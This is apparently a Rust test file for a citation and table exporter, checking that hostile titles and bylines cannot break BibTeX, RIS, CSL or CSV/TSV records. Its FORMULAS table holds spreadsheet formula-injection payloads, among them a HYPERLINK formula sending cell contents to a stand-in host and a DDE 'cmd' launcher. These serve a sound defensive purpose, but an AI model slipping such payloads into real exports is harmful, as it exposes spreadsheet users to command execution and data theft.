//! Every format over an ordinary hit and a hostile one.

use super::*;
use crate::article::{Article, ArticleId, Published};
use crate::entity::Findings;
use crate::index::Stored;

fn hit(title: &str, published: Option<Published>) -> Hit {
    let article = Article {
        id: ArticleId(0x4f1c_2a9b_7d3e_6a10),
        origin: crate::corpus::Origin {
            file: "a/b.jsonl".into(),
            record: 3,
        },
        format: "json".into(),
        title: title.into(),
        byline: vec!["Jane van Doe".into(), "Reuters Staff".into()],
        dateline: None,
        source: Some("Daily Echo".into()),
        section: Some("Labour".into()),
        page: Some("A1".into()),
        edition: None,
        wire: None,
        published,
        date_source: None,
        dates: Vec::new(),
        lang: Some("en".into()),
        url: Some("https://echo.example/a_b?x=1&y=%20#{z}".into()),
        summary: None,
        body: "The dockers went on strike.\nThey ask for pay.".into(),
        captions: Vec::new(),
        removed: Vec::new(),
    };
    Hit {
        rank: 1,
        score: 7.31,
        stored: Stored {
            article,
            findings: Findings::default(),
        },
        snippets: Vec::new(),
    }
}

const DAY: Published = Published::Day {
    year: 1923,
    month: 5,
    day: 4,
};
const DATES: [Option<Published>; 4] = [
    Some(DAY),
    Some(Published::Month {
        year: 1923,
        month: 5,
    }),
    Some(Published::Year { year: 1923 }),
    None,
];

fn written(format: Format, fields: &[&str], hits: &[Hit]) -> String {
    let mut out = Vec::new();
    let mut exporter = Exporter::new(format, chosen(fields).unwrap());
    exporter.begin(&mut out).unwrap();
    for hit in hits {
        exporter.write(hit, &mut out).unwrap();
    }
    exporter.end(&mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// Everything that ends a field somewhere.
const EVIL: &str =
    "a \"b\", c;\td\r\nER  - \n@x{y}}{ \\ $5 & 6% #7 _ ~ ^ \x1b[2J\u{0}=1+1 “q” 東京";

#[test]
fn bibtex_entries() {
    let whole = written(Format::Bibtex, &[], &[hit("Dockers strike", Some(DAY))]);
    assert_eq!(
        whole,
        "@article{vandoe1923-4f1c2a9b7d3e6a10,\n  title = {{Dockers strike}},\n  \
         author = {van Doe, Jane and {Reuters Staff}},\n  journal = {Daily Echo},\n  entrysubtype = {newspaper},\n  \
         year = {1923},\n  month = may,\n  day = {4},\n  pages = {A1},\n  langid = {en},\n  \
         url = {https://echo.example/a_b?x=1&y=%20#%7Bz%7D},\n  \
         note = {Section: Labour. File: a/b.jsonl \\#3},\n}\n\n"
    );
    let evil = written(Format::Bibtex, &[], &[hit(EVIL, None)]);
    assert!(
        evil.contains(
            "{{a \"b\", c; d  ER  -  @x\\textbraceleft{}y\\textbraceright{}\\textbraceright{}\\textbraceleft{} \
             \\textbackslash{} \\$5 \\& 6\\% \\#7 \\_ \\textasciitilde{} \\textasciicircum{} [2J=1+1 “q” 東京}}"
        ),
        "{evil}"
    );
    let (open, closed) = (evil.matches('{').count(), evil.matches('}').count());
    assert_eq!(open, closed, "braces are counted, escaped or not");
}

#[test]
fn ris_records() {
    let whole = written(Format::Ris, &[], &[hit("Dockers strike", Some(DAY))]);
    assert_eq!(
        whole.replace("\r\n", "\n"),
        "TY  - NEWS\nID  - 4f1c2a9b7d3e6a10\nTI  - Dockers strike\nAU  - van Doe,Jane\nAU  - Reuters Staff\n\
         T2  - Daily Echo\nPY  - 1923\nDA  - 1923/05/04/\nSE  - Labour\nSP  - A1\nLA  - en\n\
         UR  - https://echo.example/a_b?x=1&y=%20#{z}\nN1  - File: a/b.jsonl #3\nER  - \n\n"
    );
    let evil = written(Format::Ris, &[], &[hit(EVIL, Some(DAY))]);
    assert_eq!(evil.matches("\r\nER  - ").count(), 1, "{evil}");
    let is_record_line = |line: &str| line.is_empty() || line.get(2..6) == Some("  - ");
    assert!(evil.split("\r\n").all(is_record_line), "{evil}");
    assert!(!evil.replace("\r\n", "").contains(['\r', '\n']));
}

/// The hostile hit: every text of it ends what it stands in.
fn evil_hit() -> Hit {
    let mut hit = hit(EVIL, Some(DAY));
    let article = &mut hit.stored.article;
    let evil = || Some(EVIL.to_owned());
    article.origin.file = EVIL.into();
    article.byline = vec![
        EVIL.into(),
        "Jane\n}}\n@book{a, and Doe".into(),
        "A\r\nER  - \r\nTY  - BOOK".into(),
    ];
    (article.source, article.section, article.page) = (evil(), evil(), evil());
    (article.edition, article.summary, article.url) = (evil(), evil(), evil());
    (article.lang, article.dateline, article.wire) = (evil(), evil(), evil());
    hit
}

#[test]
fn no_text_adds_an_entry_or_a_field() {
    let written_once = |format| written(format, &[], &[evil_hit()]);
    let bibtex = written_once(Format::Bibtex);
    let lines: Vec<&str> = bibtex.trim_end().lines().collect();
    let (first, last) = (lines[0], lines[lines.len() - 1]);
    assert!(first.starts_with("@article{") && last == "}", "{bibtex}");
    let mut names = Vec::new();
    for line in &lines[1..lines.len() - 1] {
        let (name, value) = line.trim_start().split_once(" = ").unwrap();
        names.push(name);
        let value = value.strip_suffix(',').unwrap();
        let mut depth = 0_i32;
        for (at, sign) in value.char_indices() {
            depth += i32::from(sign == '{') - i32::from(sign == '}');
            let is_inside = depth > 0 || at + 1 == value.len();
            assert!(
                is_inside || !value.starts_with('{'),
                "{name} ends before its end: {value}"
            );
        }
        assert_eq!(depth, 0, "{line}");
    }
    let mut once = names.clone();
    once.sort_unstable();
    once.dedup();
    assert_eq!(once.len(), names.len(), "{names:?}");

    let ris = written_once(Format::Ris);
    let is_record_line = |line: &str| line.is_empty() || line.get(2..6) == Some("  - ");
    assert!(ris.split("\r\n").all(is_record_line), "{ris}");
    for tag in ["TY", "ER", "TI", "ID"] {
        let count = ris
            .split("\r\n")
            .filter(|line| line.starts_with(tag))
            .count();
        assert_eq!(count, 1, "{tag}: {ris}");
    }
    let csl: serde_json::Value = serde_json::from_str(&written_once(Format::Csl)).unwrap();
    assert_eq!(csl.as_array().unwrap().len(), 1);
}

#[test]
fn csl_is_one_array_however_many_hits() {
    for count in 0..3 {
        let hits = vec![hit(EVIL, Some(DAY)); count];
        let text = written(Format::Csl, &[], &hits);
        let items: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
        assert_eq!(items.len(), count);
    }
    let text = written(Format::Csl, &[], &[hit("Dockers strike", Some(DAY))]);
    let items: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        items[0],
        serde_json::json!({
            "id": "4f1c2a9b7d3e6a10", "type": "article-newspaper", "title": "Dockers strike",
            "author": [{"family": "van Doe", "given": "Jane"}, {"literal": "Reuters Staff"}],
            "container-title": "Daily Echo", "issued": {"date-parts": [[1923, 5, 4]]}, "section": "Labour",
            "page": "A1", "language": "en", "URL": "https://echo.example/a_b?x=1&y=%20#{z}",
            "note": "File: a/b.jsonl #3"
        })
    );
}

#[test]
fn dates_are_as_exact_as_known() {
    let line = |text: String, start: &str| {
        let found = text.lines().find(|line| line.trim().starts_with(start));
        found.map(|line| line.trim().trim_start_matches(start).to_owned())
    };
    let told: Vec<[Option<String>; 3]> = DATES
        .map(|date| {
            let bibtex = written(Format::Bibtex, &[], &[hit("t", date)]);
            let csl = written(Format::Csl, &[], &[hit("t", date)]);
            let parts = csl
                .split_once("[[")
                .and_then(|(_, rest)| rest.split_once("]]"));
            [
                line(written(Format::Ris, &[], &[hit("t", date)]), "DA  - "),
                line(bibtex, "month = "),
                parts.map(|(parts, _)| parts.to_owned()),
            ]
        })
        .into();
    let some = |text: &str| Some(text.to_owned());
    assert_eq!(
        told,
        [
            [some("1923/05/04/"), some("may,"), some("1923,5,4")],
            [some("1923/05//"), some("may,"), some("1923,5")],
            [some("1923///"), None, some("1923")],
            [None, None, None],
        ]
    );
}

#[test]
fn tables_keep_their_columns() {
    let fields = ["title", "date", "byline", "record", "source", "edition"];
    let hits = [hit(EVIL, Some(DAY)), hit("", None)];
    let text = written(Format::Csv, &fields, &hits);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().unwrap(), fields.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.unwrap()).collect();
    assert_eq!(rows.len(), 2);
    assert!(
        rows[0][0].starts_with("a \"b\", c;\td\nER  - \n@x{y}}{"),
        "{}",
        &rows[0][0]
    );
    assert_eq!(&rows[0][1], "1923-05-04");
    assert_eq!(&rows[0][2], "Jane van Doe; Reuters Staff");
    assert_eq!(
        &rows[1],
        ["", "", "Jane van Doe; Reuters Staff", "3", "Daily Echo", ""].as_slice()
    );

    let text = written(Format::Tsv, &fields, &hits);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 3);
    assert!(
        lines.iter().all(|line| line.split('\t').count() == 6),
        "{text}"
    );
    assert!(!text.contains('\x1b'));
    assert_eq!(
        written(Format::Lines, &["title", "score"], &hits[1..]),
        "\t7.31\n"
    );
}

/// Texts, and whether a spreadsheet would take them for a formula.
const FORMULAS: &[(&str, bool)] = &[
    ("=1+1", true),
    ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", true),
    ("+1", true),
    ("-2+3+cmd|' /C calc'!A0", true),
    ("@SUM(A1)", true),
    ("\t=1", true),
    ("\r=1", true),
    ("\n=1", true),
    ("  =1", true),
    ("\u{feff}=1", true),
    ("\x01=1", true),
    ("＝1", true),
    ("＠x", true),
    ("'=1", true),
    ("''@x", true),
    ("-30 degrees", true),
    ("'tis the season", false),
    ("'", false),
    ("1=1", false),
    ("a -b", false),
    ("", false),
    ("“=1”", false),
];

/// What a program does to have a text as it is: it takes one apostrophe off, where there is one of ours.
fn as_it_is(cell: &str) -> &str {
    let Some(rest) = cell.strip_prefix('\'') else {
        return cell;
    };
    let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    let text = rest.trim_start_matches('\'');
    match text.starts_with(['\t', '\r', '\n'])
        || text
            .trim_start_matches(['\u{feff}', '\x01'])
            .trim_start()
            .starts_with(signs)
    {
        true => rest,
        false => cell,
    }
}

#[test]
fn a_text_is_no_formula_and_can_be_had_as_it_is() {
    for &(text, is_formula) in FORMULAS {
        let mut evil = hit(text, None);
        evil.stored.article.byline = vec![text.into(), "Jane".into()];
        let fields = ["title", "rank", "byline"];
        let csv = written(Format::Csv, &fields, std::slice::from_ref(&evil));
        let row = csv::Reader::from_reader(csv.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap();
        assert_eq!(
            row[0].starts_with('\''),
            is_formula || text.starts_with('\''),
            "{text:?} {csv:?}"
        );
        let kept: String = text
            .chars()
            .filter(|c| !c.is_control() || "\n\t".contains(*c))
            .collect();
        assert_eq!(as_it_is(&row[0]), kept, "{csv:?}");
        assert_eq!(&row[1], "1");
        assert_eq!(
            row[2].starts_with('\''),
            is_formula || text.starts_with('\''),
            "{csv:?}"
        );
        let tsv = written(Format::Tsv, &fields, std::slice::from_ref(&evil));
        let cell = tsv.lines().nth(1).unwrap().split('\t').next().unwrap();
        assert_eq!(
            cell.starts_with('\''),
            is_formula || text.starts_with('\''),
            "{tsv:?}"
        );
        // What is for `cut` and `awk`, and what is for programs, stays.
        let lines = written(Format::Lines, &["title"], std::slice::from_ref(&evil));
        assert_eq!(lines, format!("{}\n", one_line(text)));
        let fields = chosen(&["title"]).unwrap();
        assert_eq!(object(&evil, &fields)["title"], text);
    }
}

#[test]
fn other_separators_do_not_split_a_cell() {
    for text in ["a;=1+1", "a\t=1+1", "a,b", "a\"b", "a\nb"] {
        let csv = written(Format::Csv, &["title"], &[hit(text, None)]);
        assert_eq!(csv, format!("title\n\"{}\"\n", text.replace('"', "\"\"")));
    }
    let csv = written(Format::Csv, &["title"], &[hit("", None)]);
    assert_eq!(csv, "title\n\"\"\n", "a row of one empty cell is a row");
}

#[test]
fn objects_hold_the_chosen_keys_in_their_order() {
    let fields = chosen(&["score", " title", "edition", "byline"]).unwrap();
    let object = object(&hit("T", None), &fields);
    assert_eq!(
        serde_json::to_string(&object).unwrap(),
        r#"{"score":7.31,"title":"T","edition":null,"byline":["Jane van Doe","Reuters Staff"]}"#
    );
    assert_eq!(
        chosen(&["title", "titel"]).unwrap_err(),
        NoField("titel".into())
    );
    assert_eq!(chosen(&["title", ""]).unwrap_err(), NoField(String::new()));
    assert_eq!(chosen(STANDARD).unwrap().len(), STANDARD.len());
    let names: std::collections::BTreeSet<&str> = FIELDS.iter().map(|field| field.name).collect();
    assert_eq!(names.len(), FIELDS.len());
}
